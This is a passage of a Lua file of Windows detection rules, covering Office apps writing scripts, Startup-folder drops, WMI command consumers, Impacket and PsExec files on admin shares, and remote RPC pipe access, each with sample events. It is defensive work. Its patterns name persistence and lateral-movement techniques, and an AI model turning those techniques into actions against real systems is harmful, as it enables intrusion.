    return (f:find("%.exe$") or f:find("%.dll$") or f:find("%.js$") or f:find("%.jse$") or f:find("%.vbs$") or f:find("%.hta$")
      or f:find("%.ps1$") or f:find("%.bat$") or f:find("%.cmd$") or f:find("%.scr$") or f:find("%.sct$")) ~= nil,
      "writes " .. tostring(p.target_filename)
  end,
  examples = {
    positive = { { Image = [[C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE]], TargetFilename = [[C:\Users\a\AppData\Roaming\x.vbs]] } },
    negative = { { Image = [[C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE]], TargetFilename = [[C:\Users\a\Documents\~$report.docx]] },
                 { Image = [[C:\Windows\explorer.exe]], TargetFilename = [[C:\Users\a\x.exe]] } },
  },
}

rules.define {
  id = "win.startup_folder_file", platform = "windows", logsource = "file_event", severity = "medium",
  title = "Executable or script written to a Startup folder",
  description = "Anything runnable dropped into Start Menu\\Programs\\Startup runs at the next logon.",
  technique = { "T1547.001" },
  falsepositives = { "Installers adding shortcuts (.lnk is excluded unless written by a script host)" },
  match = function(p)
    local f = low(p.target_filename)
    if not f:find("\\start menu\\programs\\startup\\", 1, true) or f:find("desktop%.ini$") then return false end
    if f:find("%.lnk$") then
      local n = p.name or ""
      return n == "powershell.exe" or n == "wscript.exe" or n == "cscript.exe" or n == "cmd.exe", "shortcut " .. f
    end
    return true, "writes " .. tostring(p.target_filename)
  end,
  examples = {
    positive = { { Image = PS, TargetFilename = [[C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\u.bat]] } },
    negative = { { Image = [[C:\Program Files\App\setup.exe]], TargetFilename = [[C:\ProgramData\Microsoft\Windows\Start Menu\Programs\Startup\App.lnk]] } },
  },
}

-- ---- WMI subscriptions (Sysmon 19-21) and share access (5145) -------------

rules.define {
  id = "win.wmi_command_consumer", platform = "windows", logsource = "wmi_event", severity = "high",
  title = "WMI command-line or script consumer created",
  description = "A CommandLineEventConsumer or ActiveScriptEventConsumer runs its command whenever its filter "
    .. "fires: fileless persistence.",
  technique = { "T1546.003" },
  falsepositives = { "SCCM and monitoring agents (BVTConsumer, SCM Event Log Consumer are excluded)" },
  match = function(p)
    if p.event_id ~= 20 or low(p.operation) ~= "created" then return false end
    local n = low(p.wmi_name)
    if n:find("bvtconsumer", 1, true) or n:find("scm event log consumer", 1, true) then return false end
    local t = low(p.consumer_type)
    return (t == "command line" or t == "script"), "consumer " .. tostring(p.wmi_name) .. " runs " .. tostring(p.destination)
  end,
  examples = {
    positive = { { _id = 20, EventType = "WmiConsumerEvent", Operation = "Created", User = [[MSEDGEWIN10\IEUser]],
                   Name = [[ "AtomicRedTeam-WMIPersistence-Example"]], Type = "Command Line",
                   Destination = [[ "C:\\Windows\\System32\\notepad.exe"]] } },
    negative = { { _id = 20, Operation = "Deleted", Name = [["x"]], Type = "Command Line", Destination = "a.exe" },
                 { _id = 20, Operation = "Created", Name = [["BVTConsumer"]], Type = "Command Line", Destination = "cscript KernCap.vbs" } },
  },
}

rules.define {
  id = "win.admin_share_payload_write", platform = "windows", logsource = "share_access", severity = "high",
  title = "Executable or Impacket output file on an admin share",
  description = "A remote client touching ADMIN$/C$ files ending .exe/.dll/.bat/.ps1, or Impacket's __output and "
    .. "__<time> files, is lateral movement (PsExec, smbexec, wmiexec).",
  technique = { "T1021.002", "T1570" },
  falsepositives = { "Software deployment over admin shares" },
  match = function(p)
    local s, t = low(p.share_name), low(p.relative_target)
    if not (s:find("\\admin%$$") or s:find("\\c%$$")) then return false end
    return (t:find("%.exe$") or t:find("%.dll$") or t:find("%.bat$") or t:find("%.ps1$") or t:find("^__output")
      or t:find("^__%d+%.%d+$") or t:find("\\__%d+%.%d+$")) ~= nil, "file " .. tostring(p.relative_target) .. " from " .. tostring(p.ip)
  end,
  examples = {
    positive = { { ShareName = [[\\*\ADMIN$]], RelativeTargetName = "PSEXESVC.exe", IpAddress = "10.0.0.7",
                   SubjectUserName = "admin", SubjectDomainName = "CORP", AccessMask = "0x2" },
                 { ShareName = [[\\*\ADMIN$]], RelativeTargetName = "__1625480375.07", IpAddress = "10.0.0.7" } },
    negative = { { ShareName = [[\\*\IPC$]], RelativeTargetName = "svcctl", IpAddress = "10.0.0.7" },
                 { ShareName = [[\\*\SYSVOL]], RelativeTargetName = [[corp.local\scripts\logon.bat]] } },
  },
}

rules.define {
  id = "win.remote_service_or_task_pipe", platform = "windows", logsource = "share_access", severity = "low",
  title = "Remote client opens the service, task or registry RPC pipe",
  description = "svcctl, atsvc and winreg over IPC$ are how PsExec, atexec and remote registry tools work; on a "
    .. "workstation they are rare.",
  technique = { "T1021.002", "T1569.002", "T1053.005" },
  falsepositives = { "Management servers and remote administration" },
  match = function(p)
    local s, t = low(p.share_name), low(p.relative_target)
    return s:find("\\ipc%$$") ~= nil and (t == "svcctl" or t == "atsvc" or t == "winreg"), "pipe " .. t .. " from " .. tostring(p.ip)
  end,
  examples = {
    positive = { { ShareName = [[\\*\IPC$]], RelativeTargetName = "svcctl", IpAddress = "172.16.66.37" } },
    negative = { { ShareName = [[\\*\IPC$]], RelativeTargetName = "samr", IpAddress = "172.16.66.37" } },
  },
}
